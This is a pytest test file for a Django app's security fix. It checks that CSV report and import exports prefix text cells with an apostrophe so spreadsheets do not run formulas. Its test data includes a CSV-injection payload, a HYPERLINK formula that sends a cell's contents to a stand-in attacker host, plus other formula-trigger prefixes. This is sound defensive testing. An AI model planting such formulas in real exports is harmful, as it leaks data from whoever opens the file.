"""Issue 12, item 4: every CSV the application writes carries no formulas (docs/security.md, row 12.4).

An organisation name, an internship sector or an evaluation office is typed by
people; a report exported as CSV gave it back as it was typed, so that a
spreadsheet opening the file ran `=HYPERLINK(...)`. One guard
(`common.export.guard_cell`) now writes every such text cell with a leading
apostrophe, as the list exports already did; numbers stay numbers and JSON keeps
the value as recorded.
"""

import csv
import datetime
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from common.export import guard_cell, unguard_cell
from imports.exports import export_table, to_csv
from imports.services import import_file
from partners.models import Organisation
from reports.models import SavedReport
from tests import factories

D = datetime.date
pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"klik")'
HOSTILE = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]


def _report(measure, dimension):
    return SavedReport.objects.create(
        name=f"Per {dimension}",
        slug=f"per-{dimension}",
        measure=measure,
        row_dimensions=[dimension],
        as_of=D(2019, 11, 30),
    )


def _hostile_records(text):
    """A trajectory of a partner, an internship in a sector and an evaluation at an office, all named `text`."""
    partner = factories.PartnerFactory(name=text)
    trajectory = factories.TrajectoryFactory(partner=partner)
    factories.InternshipFactory(trajectory=trajectory, sector=text)
    factories.EvaluationFactory(office=text)


CASES = [("trajectories", "partner"), ("internships", "sector"), ("evaluations", "office")]


def _csv_from_view(client, slug):
    response = client.get(reverse("reports:export", kwargs={"slug": slug, "fmt": "csv"}))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def _csv_from_command(slug, tmp_path):
    out = tmp_path / f"{slug}.csv"
    call_command("export_report", slug, "--format", "csv", "--output", str(out))
    return list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(("measure", "dimension"), CASES)
def test_a_report_csv_writes_a_label_that_looks_like_a_formula_as_text(
    measure, dimension, text, client, analyst, tmp_path
):
    _hostile_records(text)
    report = _report(measure, dimension)
    client.force_login(analyst)

    for rows in (_csv_from_view(client, report.slug), _csv_from_command(report.slug, tmp_path)):
        assert rows[0] == [dimension, "value"]
        labels = {row[0]: row[1] for row in rows[1:]}
        assert labels["'" + text] == "1"
        assert not any(row[0].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])


def test_the_json_export_keeps_the_label_as_recorded(tmp_path):
    _hostile_records(HYPERLINK)
    report = _report("trajectories", "partner")
    out = tmp_path / "per-partner.json"

    call_command("export_report", report.slug, "--format", "json", "--output", str(out))

    rows = json.loads(out.read_text(encoding="utf-8"))["rows"]
    assert {"partner": HYPERLINK, "value": 1} in rows


def test_numbers_stay_numbers_only_text_is_guarded():
    assert guard_cell(-3) == -3
    assert guard_cell(-2.5) == -2.5
    assert guard_cell("-3") == "'-3"
    assert guard_cell("Kringwinkel") == "Kringwinkel"
    assert guard_cell("") == ""


@pytest.mark.parametrize("text", [*HOSTILE, "'=already quoted", "'plain", "'", "plain"])
def test_unguard_gives_back_exactly_what_was_guarded(text):
    assert unguard_cell(guard_cell(text)) == text


def test_a_report_csv_writes_a_negative_number_as_a_number(client, analyst):
    """A figure is never text: the money report's values come out as they are computed."""
    factories.GrantFactory()
    client.force_login(analyst)

    rows = _csv_from_view(client, "q2e_call_budget")

    assert rows[1] == ["total", "42000.00"]


def test_the_import_format_csv_guards_a_name_and_reads_it_back_unchanged():
    organisation = factories.OrganisationFactory(name=HYPERLINK)
    headers, rows = export_table("organisations")
    content = to_csv(headers, rows)

    written = list(csv.reader(io.StringIO(content.decode("utf-8"))))
    assert [cell for row in written for cell in row if HYPERLINK in cell] == ["'" + HYPERLINK]

    organisation.name = "renamed"
    organisation.save()
    result = import_file(kind="organisations", content=content, file_name="organisations.csv")
    assert result.ok, result.errors
    assert Organisation.objects.get(pk=organisation.pk).name == HYPERLINK
